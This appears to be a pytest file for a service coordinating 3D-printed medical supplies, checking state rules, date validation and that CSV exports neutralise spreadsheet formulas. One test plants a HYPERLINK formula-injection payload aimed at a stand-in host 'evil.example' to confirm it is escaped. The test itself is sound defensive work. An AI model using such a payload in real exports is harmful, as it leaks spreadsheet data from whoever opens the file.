"""Issue 13, points 7 and 9, against the running service: state rules that a careless or
hostile user met, and exports that are safe to open in a spreadsheet.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta

import httpx
import pytest

from tests.conftest import Network, bearer

API = "/api/v1"
PRINTER = {"name": "MK3S", "bed_x_mm": 250, "bed_y_mm": 210, "bed_z_mm": 210}


def order(**changes: object) -> dict[str, object]:
    return {
        "product_key": "visor",
        "quantity": 10,
        "needed_by": (date.today() + timedelta(days=10)).isoformat(),
        "delivery_address": "1 rue de l'Hôpital, Abbeville",
    } | changes


def headbands_at_maker(http: httpx.Client, coordinator: str) -> int:
    rows = http.get(f"{API}/stock", headers=bearer(coordinator)).json()
    return sum(
        row["quantity"] for row in rows if row["item"] == "headband" and row["stage"] == "at_maker"
    )


def test_a_maker_cannot_mark_done_a_job_that_never_started(
    live_server: str, network: Network
) -> None:
    with httpx.Client(base_url=live_server) as http:
        printer = http.post(f"{API}/printers", json=PRINTER, headers=bearer(network.maker)).json()
        job = http.post(
            f"{API}/jobs",
            json={"part_key": "headband", "copies": 1000, "printer_id": printer["id"]},
            headers=bearer(network.coordinator),
        ).json()
        assert job["status"] == "assigned"
        refused = http.post(f"{API}/jobs/{job['id']}/done", headers=bearer(network.maker))
        assert refused.status_code == 409
        assert "never started" in refused.json()["detail"]
        assert headbands_at_maker(http, network.coordinator) == 0


@pytest.mark.parametrize(
    ("needed_by", "why"),
    [
        ("9999-12-31", "more than a year ahead"),
        ((date.today() + timedelta(days=400)).isoformat(), "more than a year ahead"),
        ("1970-01-01", "in the past"),
        ((date.today() - timedelta(days=2)).isoformat(), "in the past"),
    ],
)
def test_order_dates_beyond_a_year_or_in_the_past_are_refused(
    live_server: str, network: Network, needed_by: str, why: str
) -> None:
    with httpx.Client(base_url=live_server) as http:
        answer = http.post(
            f"{API}/orders", json=order(needed_by=needed_by), headers=bearer(network.centre)
        )
        assert answer.status_code == 422
        (error,) = answer.json()["detail"]
        assert error["loc"] == ["body", "needed_by"]
        assert why in error["msg"]
        within = order(needed_by=(date.today() + timedelta(days=300)).isoformat())
        assert http.post(f"{API}/orders", json=within, headers=bearer(network.centre)).is_success


def test_a_disinfection_date_in_the_future_is_refused(live_server: str, network: Network) -> None:
    later = (datetime.now(UTC) + timedelta(days=3)).isoformat()
    with httpx.Client(base_url=live_server) as http:
        answer = http.post(
            f"{API}/batches/1/disinfection",
            json={"method": "alcohol_70", "disinfected_at": later},
            headers=bearer(network.coordinator),
        )
    assert answer.status_code == 422
    assert answer.json()["detail"][0]["loc"] == ["body", "disinfected_at"]


def test_the_deliveries_export_neutralises_formulas(live_server: str, network: Network) -> None:
    """A centre named `=HYPERLINK(...)` with the address `=1+1`, once delivered, comes out
    of deliveries.csv as text, not as live formulas."""
    coordinator = bearer(network.coordinator)
    hostile_name = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")'
    with httpx.Client(base_url=live_server) as http:
        centre = http.post(
            f"{API}/accounts",
            json={"name": hostile_name, "role": "health_centre"},
            headers=coordinator,
        ).json()
        placed = http.post(
            f"{API}/orders",
            json=order(product_key="amicroche", quantity=2, delivery_address="=1+1"),
            headers=bearer(centre["token"]),
        )
        assert placed.status_code == 201, placed.text
        order_id = placed.json()["id"]
        printer = http.post(f"{API}/printers", json=PRINTER, headers=bearer(network.maker)).json()
        job = http.post(
            f"{API}/jobs",
            json={"part_key": "amicroche", "copies": 2, "printer_id": printer["id"]},
            headers=coordinator,
        ).json()
        steps = [
            (f"/jobs/{job['id']}/done", None),
            (
                "/collections",
                {"maker_id": network.maker_id, "item": "amicroche", "quantity": 2},
            ),
            ("/qc", {"item": "amicroche", "passed": 2}),
            ("/batches", {"product_key": "amicroche", "quantity": 2}),
        ]
        for path, body in steps:
            done = http.post(f"{API}{path}", json=body, headers=coordinator)
            assert done.is_success, (path, done.text)
        batch_id = done.json()["id"]
        for path, body in [
            (f"/batches/{batch_id}/disinfection", {"method": "alcohol_70"}),
            ("/packings", {"order_id": order_id, "quantity": 2}),
            ("/deliveries", {"order_id": order_id, "quantity": 2}),
        ]:
            done = http.post(f"{API}{path}", json=body, headers=coordinator)
            assert done.is_success, (path, done.text)
        exported = http.get(f"{API}/deliveries.csv", headers=coordinator)
    (row,) = csv.DictReader(io.StringIO(exported.text))
    assert row["health_centre"] == "'" + hostile_name
    assert row["delivery_address"] == "'=1+1"
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
